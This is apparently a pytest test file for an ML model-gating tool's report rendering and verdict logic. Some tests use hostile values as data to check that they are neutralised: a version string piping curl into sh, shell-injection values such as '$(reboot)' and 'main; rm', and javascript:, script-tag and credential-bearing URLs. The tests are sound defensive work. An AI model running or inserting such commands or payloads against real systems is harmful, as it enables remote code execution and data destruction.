"""A report tells the story that the records tell, and never a better one."""

from __future__ import annotations

import html
import json
import re
from typing import Any

import pytest
from rich.console import Console

from mlgate.report import facts, markdown, outputs, terminal
from mlgate.report.case import Case, headline
from mlgate.report.html import page
from mlgate.report.links import commit_url, reproduce, safe_url
from mlgate.report.model_records import ModelRecords
from mlgate.report.report import Context, Report
from mlgate.report.trend import trend
from mlgate.verdict import Outcome, Verdict

STORIES = {
    "passed": (Case.COMPARED, Outcome.PASS),
    "first-model": (Case.FIRST, Outcome.PASS),
    "failed": (Case.COMPARED, Outcome.FAIL),
    "slice-failed": (Case.COMPARED, Outcome.FAIL),
    "inconclusive": (Case.COMPARED, Outcome.INCONCLUSIVE),
    "error": (Case.COMPARED, Outcome.ERROR),
    "training-crashed": (Case.CRASHED, Outcome.ERROR),
    "data-refused": (Case.REFUSED_DATA, Outcome.FAIL),
    "no-registry": (Case.FAILED, Outcome.ERROR),
    "not-compared": (Case.TRAINED, Outcome.INCONCLUSIVE),
    "promoted": (Case.PROMOTED, Outcome.PASS),
    "not-promoted": (Case.NOT_MOVED, Outcome.FAIL),
    "rolled-back": (Case.ROLLED_BACK, Outcome.PASS),
}


@pytest.mark.parametrize("name", STORIES)
def test_the_last_record_tells_the_story(cases: dict[str, Any], name: str) -> None:
    """Each combination of records has its own case, and the verdict of the step that decided."""
    report = Report.of(cases["CASES"][name], cases["CONTEXT"])
    assert (report.models[0].case, report.verdict.outcome) == STORIES[name]


def test_only_a_comparison_can_pass_a_candidate(cases: dict[str, Any]) -> None:
    """Valid data, or a training that worked, is not a pass: the step after it may have died without a record."""
    for records in (ModelRecords(validation=cases["VALID"]), ModelRecords(training=cases["TRAINED"])):
        assert Report.of({"m": records}, Context()).verdict.outcome is Outcome.INCONCLUSIVE


def test_the_worst_step_decides(cases: dict[str, Any]) -> None:
    """A comparison that passes does not outweigh data that was refused."""
    records = ModelRecords(validation=cases["BROKEN"], comparison=cases["compared"](cases["BETTER"]))
    assert Report.of({"m": records}, Context()).verdict.decided_by == "schema sched_dep_time"


def test_an_error_hides_no_refusal(cases: dict[str, Any]) -> None:
    """A training that does not start, since the data was refused, leaves the data's story."""
    refused = cases["CASES"]["data-refused"][cases["MODEL"]]
    after = refused.model_copy(update={"failure": cases["UNREACHED"]})
    assert Report.of({"m": after}, Context()).models[0].case is Case.REFUSED_DATA


def test_an_error_is_told_instead_of_what_passed_before(cases: dict[str, Any]) -> None:
    """Also where the candidate had passed: what ended the command is news."""
    passed = cases["CASES"]["passed"][cases["MODEL"]].model_copy(update={"failure": cases["UNREACHED"]})
    report = Report.of({"m": passed}, Context())
    assert (report.verdict.outcome, report.models[0].case) == (Outcome.ERROR, Case.FAILED)


def test_a_rollback_is_not_coloured_by_an_older_comparison(cases: dict[str, Any]) -> None:
    """Rolling a failed model back is a success, whatever record of that model still lies there."""
    rolled = cases["CASES"]["rolled-back"][cases["MODEL"]]
    records = rolled.model_copy(update={"comparison": cases["compared"](cases["WORSE"])})
    assert Report.of({"m": records}, Context()).verdict.passed


def test_nothing_is_never_a_pass() -> None:
    """No record at all is inconclusive, and says that there is nothing to tell."""
    for records in ({}, {"m": ModelRecords()}):
        report = Report.of(records, Context())
        assert report.is_empty
        assert outputs.outputs(report)["passed"] == "false"


def test_the_worst_model_is_on_top_and_decides(cases: dict[str, Any]) -> None:
    """Of several models the worst comes first; equal ones by name."""
    report = Report.of(cases["CASES"]["several-models"], cases["CONTEXT"])
    assert [model.name for model in report.models] == ["flight-delay", "no-show", "arrival-time"]
    assert report.verdict == report.models[0].verdict


def test_the_worst_rule_is_on_top(cases: dict[str, Any]) -> None:
    """A failed rule comes before those that hold; one that does not judge comes last."""
    failed = Report.of(cases["CASES"]["failed"], cases["CONTEXT"]).models[0]
    assert [result.finding.outcome for result in failed.results] == [Outcome.FAIL, Outcome.PASS]
    first = Report.of(cases["CASES"]["first-model"], cases["CONTEXT"]).models[0]
    assert [result.finding.judged for result in first.results] == [True, False]


def on_a_terminal(report: Report) -> str:
    """Show a report on a wide terminal."""
    console = Console(width=300)
    with console.capture() as capture:
        terminal.show(report, console)
    return capture.get()


def test_several_models_pass_only_together(cases: dict[str, Any]) -> None:
    """All models must pass."""
    good = cases["CASES"]["passed"][cases["MODEL"]]
    assert Report.of({"a": good, "b": good}, Context()).verdict == Verdict(
        outcome=Outcome.PASS, decided_by="every model", sentence="both models pass"
    )


def test_what_passed_with_a_warning_warns_among_others(cases: dict[str, Any]) -> None:
    """A model that the gate let through does not turn green beside one that passed."""
    good = cases["CASES"]["passed"][cases["MODEL"]]
    let = Verdict(outcome=Outcome.PASS, decided_by="on_inconclusive: warn", sentence="1 of 3 rules let through")
    through = good.model_copy(update={"comparison": good.comparison.model_copy(update={"verdict": let})})
    report = Report.of({"a": good, "b": through, "c": good}, Context())
    assert (report.verdict.warned, report.verdict.sentence) == (True, "all 3 models pass, 1 with a warning")
    assert "> [!WARNING]" in markdown.comment(report)


@pytest.mark.parametrize("case", list(Case))
@pytest.mark.parametrize("outcome", list(Outcome))
def test_every_story_has_its_words(case: Case, outcome: Outcome) -> None:
    """No combination of case and outcome is left without a headline."""
    assert headline(case, outcome)


def test_outputs_name_versions_and_verdict(cases: dict[str, Any]) -> None:
    """A workflow reads plain words, and the rest as JSON."""
    written = outputs.outputs(Report.of(cases["CASES"]["passed"], cases["CONTEXT"]))
    overview = json.loads(written.pop("json"))
    assert written == {"verdict": "PASS", "passed": "true", "candidate-version": "14", "production-version": "7"}
    assert overview["models"]["flight-delay"]["candidate-version"] == "14"


def test_no_output_is_a_command(cases: dict[str, Any]) -> None:
    """A version that is no number is not given out, as a workflow may put it into a command."""
    records = cases["CASES"]["passed"][cases["MODEL"]]
    odd = records.comparison.candidate.model_copy(update={"version": "7; curl evil | sh"})
    report = Report.of(
        {"m": records.model_copy(update={"comparison": records.comparison.model_copy(update={"candidate": odd})})},
        cases["CONTEXT"],
    )
    found = outputs.outputs(report)
    assert found["candidate-version"] == ""
    assert json.loads(found["json"])["models"]["m"]["candidate-version"] is None


@pytest.mark.parametrize("value", [1234567.8, 0.00012345, -3.5, 0.0, 7.0])
def test_a_chart_holds_numbers_that_mermaid_reads(cases: dict[str, Any], value: float) -> None:
    """No powers of ten and no separators, whatever the metric's scale."""
    records = cases["CASES"]["passed"][cases["MODEL"]]
    result = records.comparison.results[0].model_copy(update={"candidate": value, "candidate_interval": None})
    history = tuple(one.model_copy(update={"metrics": {"roc_auc": value}}) for one in cases["HISTORY"])
    comparison = records.comparison.model_copy(update={"results": (result,), "history": history})
    found = trend(Report.of({"m": records.model_copy(update={"comparison": comparison})}, Context()).models[0])
    assert found is not None
    (line,) = re.findall(r"line \[(.*)\]", found.chart)
    assert all(re.fullmatch(r"[+-]?([0-9]+(\.[0-9]+)?|\.[0-9]+)", one) for one in line.split(", "))


def test_a_strangers_commits_are_no_link(cases: dict[str, Any]) -> None:
    """What changed is linked to for records of our own alone."""
    records = {"m": cases["CASES"]["passed"][cases["MODEL"]]}
    for trusted in (True, False):
        report = Report.of(records, cases["CONTEXT"].model_copy(update={"trusted": trusted}))
        assert ("/compare/" in markdown.comment(report)) is trusted


def test_a_pipe_is_written_plainly_outside_of_tables(cases: dict[str, Any]) -> None:
    """In a table it needs a backslash, which would be seen in the alert."""
    broken = cases["BROKEN"]
    finding = broken.findings[0].model_copy(
        update={"rule": "in (a|b)", "sentence": "is `a|b`", "outcome": Outcome.FAIL}
    )
    verdict = Verdict(outcome=Outcome.FAIL, decided_by="in (a|b)", sentence="is `a|b`")
    violation = broken.violations[0].model_copy(update={"rule": "in (a|b)"})
    record = broken.model_copy(update={"verdict": verdict, "findings": (finding,), "violations": (violation,)})
    comment = markdown.comment(Report.of({"m": ModelRecords(validation=record)}, cases["CONTEXT"]))
    assert "Decided by `in (a|b)`: is `a|b`." in comment
    assert "`in (a\\|b)` |" in comment


def test_after_a_promotion_the_output_is_the_new_production(cases: dict[str, Any]) -> None:
    """What serving now gets is the output; a refused promotion leaves the old version."""
    promoted = outputs.outputs(Report.of(cases["CASES"]["promoted"], cases["CONTEXT"]))
    refused = outputs.outputs(Report.of(cases["CASES"]["not-promoted"], cases["CONTEXT"]))
    assert (promoted["production-version"], refused["production-version"]) == ("8", "7")


def test_the_document_is_strict_json_and_reads_back(cases: dict[str, Any]) -> None:
    """Numbers that JSON has not become null; all else is kept."""
    broken = cases["WORSE"][1].model_copy(update={"difference": float("nan"), "production": float("inf")})
    report = Report.of({"m": ModelRecords(comparison=cases["compared"]((broken,)))}, cases["CONTEXT"])
    text = outputs.document(report)
    read = json.loads(text, parse_constant=pytest.fail)
    assert read["models"][0]["records"]["comparison"]["results"][0]["difference"] is None
    assert Report.model_validate_json(text).models[0].name == "m"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "https://user:secret@mlflow.example/",
        "https://x.example/a)b",
        "https://x.example/ b",
        "http://x.example/<b>",
        "data:text/html,x",
        "https://x.example/" + "a" * 600,
        "",
    ],
)
def test_an_unusual_address_is_no_link(url: str) -> None:
    """Credentials, other schemes and what ends a Markdown link are not written as links."""
    assert safe_url(url) is None


def test_ordinary_addresses_are_links() -> None:
    """MLflow's addresses, with port and fragment, pass."""
    assert safe_url("http://mlflow.example:5000/#/experiments/3/runs/abc")
    context = Context(server_url="https://github.acme.example/", repository="a/b")
    assert commit_url(context, "a" * 40) == f"https://github.acme.example/a/b/commit/{'a' * 40}"
    assert commit_url(context, "main; rm") is None


def test_no_command_is_offered_that_a_shell_could_misread(cases: dict[str, Any]) -> None:
    """A reader pastes the command: no strange name, commit or folder gets into it, and no stranger's code."""
    records = cases["CASES"]["passed"][cases["MODEL"]]
    trained = records.training
    odd = trained.model_copy(update={"code": trained.code.model_copy(update={"commit": "$(reboot)"})})
    strange = records.model_copy(update={"training": odd})
    assert command_of({"m; reboot": records}, Context()) is None
    assert command_of({"m": records}, Context(project="a; reboot")) is None
    assert command_of({"m": records}, Context(trusted=False)) is None
    assert command_of({"m": strange}, Context()) == "mlgate run --operation check --model m"


def test_what_was_judged_is_what_can_be_made_again(cases: dict[str, Any]) -> None:
    """The commit of the record, in its folder; of a pull request its merge with the base, which has to be fetched."""
    records = {"m": cases["CASES"]["passed"][cases["MODEL"]]}
    run, commit = "mlgate run --operation check --model m", cases["COMMIT"]
    assert command_of(records, Context()) == f"git checkout {commit[:12]} && {run}"
    assert command_of(records, Context(project="eu/fraud")) == f"git checkout {commit[:12]} && cd eu/fraud && {run}"
    merged = command_of(records, Context(pull_request=7, head_sha="f" * 40))
    assert merged == f"git fetch origin {commit} && git checkout FETCH_HEAD && {run}"


def command_of(records: dict[str, ModelRecords], context: Context) -> str | None:
    """Return the command that a report offers for its first model."""
    report = Report.of(records, context)
    return reproduce(report.models[0], report)


def test_the_page_is_self_contained_and_escaped(cases: dict[str, Any]) -> None:
    """No script, no address that is loaded, and a hostile sentence is text."""
    evil = "<script>alert(1)</script>\u202e"
    verdict = Verdict(outcome=Outcome.FAIL, decided_by=evil, sentence=evil)
    failed = cases["CASES"]["failed"][cases["MODEL"]]
    comparison = failed.comparison.model_copy(update={"verdict": verdict})
    text = page(Report.of({evil: failed.model_copy(update={"comparison": comparison})}, cases["CONTEXT"]))
    assert "<script" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\u202e" in text
    assert not [word for word in ("src=", "@import", "url(", "<link", "<iframe") if word in text.replace("url(#", "")]


@pytest.mark.parametrize("name", [*STORIES, "nothing", "several-models", "from-a-fork", "closed"])
def test_every_story_renders_everywhere(cases: dict[str, Any], name: str) -> None:
    """Comment, page and terminal name each model and its verdict, and what happened to it."""
    context = cases["context_of"](name)
    report = Report.of(cases["CASES"][name], context)
    for text in (markdown.comment(report), html.unescape(page(report)), on_a_terminal(report)):
        for model in report.models:
            assert model.name in text
            assert model.verdict.outcome.value in text
            assert facts.happened(model, context).partition(";")[0] in text
        assert facts.caveat(context) in text.replace("**", "")
        assert report.models or context.closed or "othing to show" in text


def test_training_rows_are_those_of_the_training_data(cases: dict[str, Any]) -> None:
    """The held-out rows are described beside them, and are not counted as learned from."""
    assert "<dt>Training rows</dt><dd>163,210<" in page(Report.of(cases["CASES"]["not-compared"], cases["CONTEXT"]))


def test_the_terminal_reads_no_markup_from_records(cases: dict[str, Any]) -> None:
    """Square brackets and escape sequences of a record are shown, not obeyed."""
    crashed = cases["CRASHED"].model_copy(update={"log_tail": ("[red]x[/red]", "\x1b[2J")})
    shown = on_a_terminal(Report.of({"m": ModelRecords(training=crashed)}, Context()))
    assert "[red]x[/red]" in shown
    assert "\\x1b[2J" in shown


def test_a_place_is_named_once(cases: dict[str, Any]) -> None:
    """The sentence of a broken rule of the data begins with where it is; the alert does not say it before that, too."""
    verdict = Verdict(outcome=Outcome.FAIL, decided_by="train.csv: age dtype", sentence="train.csv: age: is text")
    refused = cases["BROKEN"].model_copy(update={"verdict": verdict})
    report = Report.of({"m": ModelRecords(validation=refused)}, cases["CONTEXT"])
    assert "> train.csv: age: is text." in markdown.comment(report)
    assert "<p>train.csv: age: is text.</p>" in page(report)
